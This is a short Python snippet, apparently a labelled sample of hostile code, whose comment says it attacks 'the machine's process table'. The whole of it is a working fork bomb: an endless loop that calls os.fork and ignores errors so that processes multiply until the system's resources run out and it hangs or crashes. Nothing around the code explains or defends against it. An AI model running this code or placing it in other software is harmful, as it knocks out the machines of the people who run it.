# attacks = "the machine's process table"
# %% own
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
